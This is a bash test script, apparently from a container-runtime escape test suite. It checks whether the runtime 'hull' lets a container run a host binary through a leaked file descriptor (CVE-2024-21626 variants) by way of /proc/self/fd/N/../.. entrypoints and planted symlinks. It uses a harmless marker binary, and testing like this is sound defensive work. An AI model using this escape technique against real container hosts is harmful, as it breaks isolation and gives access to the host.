#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# leaked-fd-execve: driver for CVE-2024-21626 variants 3a/3b: execute a HOST binary through a file descriptor the
# runtime still holds when it calls execve. A directory fd of the host that is merely close-on-exec is still
# open while execve resolves its path, so "/proc/self/fd/N/../../../../<host path>" walks from it up to the
# host's root (it is outside the container's root, so ".." never stops there). The host binary is
# host-marker, copied into this attack's work directory (outside every container root).
#   run:  process.args[0] (the image's entrypoint) = /proc/self/fd/N/..(x40)/<host-marker>, N = 3..40
#   exec: the container plants /tmp/evil-N -> that path; the operator runs `hull exec ID /tmp/evil-N`
# ALLOWED when host-marker prints that it ran; refused when every attempt fails (ENOENT, ENOTDIR, EACCES...).
set -u
. "$ESC_TOP/tests/escape/lib.sh"
dir=$1
marker=$dir/host-marker
cp "$ESC_BIN/host-marker" "$marker"
chmod 0755 "$marker"
up=$(printf '/..%.0s' $(seq 40))
ran=()
tries=0
for n in $(seq 3 40); do
	d=$dir/run-$n
	esc_bundle "$d" "/proc/self/fd/$n$up$marker"
	[ -n "${ESC_CONTROL_FILTER:-}" ] && esc_cfg "$d" "$ESC_CONTROL_FILTER"
	esc_run "$d" "$(esc_id fdexec-$n)" || true
	tries=$((tries + 1))
	if grep -q '^host-marker ran' "$d/out"; then
		ran+=("hull run with args[0] /proc/self/fd/$n/../..: $(grep '^host-marker ran' "$d/out")")
	fi
done
echo "  step: hull run: $tries entrypoints through /proc/self/fd/3..40, ${#ran[@]} ran the host binary"

# exec: the container's init plants the links (through its root as seen from the host, as the container would).
id=$(esc_id fdexec-exec)
d=$dir/exec
esc_bundle "$d" /bin/sleep 120
[ -n "${ESC_CONTROL_FILTER:-}" ] && esc_cfg "$d" "$ESC_CONTROL_FILTER"
trap 'esc_hull delete --force "$id" >/dev/null 2>&1' EXIT
if esc_hull run --detach --bundle "$d" "$id" </dev/null >"$d/run.out" 2>"$d/run.err"; then
	pid=$(esc_hull state "$id" | jq -r .pid)
	before=${#ran[@]}
	for n in $(seq 3 40); do
		ln -s "/proc/self/fd/$n$up$marker" "/proc/$pid/root/tmp/evil-$n"
		out=$(esc_hull exec "$id" "/tmp/evil-$n" </dev/null 2>&1)
		if grep -q '^host-marker ran' <<<"$out"; then
			ran+=("hull exec of /tmp/evil-$n -> /proc/self/fd/$n/../..: $(grep '^host-marker ran' <<<"$out")")
		fi
	done
	echo "  step: hull exec: 38 planted links through /proc/self/fd/3..40, $((${#ran[@]} - before)) ran the host binary"
else
	echo "  step: hull run --detach failed: $(head -c 200 "$d/run.err")"
	echo "error: could not start the container for the exec variant"
	exit 2
fi
if [ ${#ran[@]} -gt 0 ]; then
	for r in "${ran[@]}"; do
		echo "  step: $r"
	done
	echo "ALLOWED: a host binary was executed in the container through a leaked fd: ${ran[0]}"
	exit 1
fi
echo "refused: no leaked fd led to a host binary ($tries entrypoints, 38 exec links; /proc/self/fd/3..40)"
